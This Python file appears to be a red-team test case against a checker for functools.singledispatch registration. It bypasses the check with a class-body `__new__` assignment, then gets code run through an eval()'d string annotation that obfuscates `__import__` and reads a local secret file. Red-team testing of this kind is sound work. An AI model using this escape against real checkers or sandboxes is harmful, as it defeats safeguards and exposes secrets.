# family: red team, round 9 (register_instance_new_assigned_eval)
# d.register(M()) is allowed when M "makes objects": a tool class without a `def __new__` (class_methods
# only records def statements). `__new__ = hand_out` assigned in the class body is a __new__ all the same,
# and returns a function whose annotation is a NAME bound to a string built at run time. register() runs
# typing.get_type_hints on it, which eval()s that string in the tool's globals: arbitrary code.
import functools

SINK = []


def _d(word):
    u = "_"
    return u + u + word + u + u


CODE = "[SINK.append(" + _d("import") + "('os')), int][1]"


def target(value: CODE) -> None:
    return None


def hand_out(cls):
    return target


class Maker:
    __new__ = hand_out


@functools.singledispatch
def dispatch(value):
    return value


def run():
    dispatch.register(Maker())
    osmod = SINK[0]
    fd = osmod.open("/tmp/r9/work/secret.txt", osmod.O_RDONLY)
    text = osmod.read(fd, 100).decode().strip()
    osmod.close(fd)
    return type(osmod).__name__, osmod.getpid(), text


print(run())
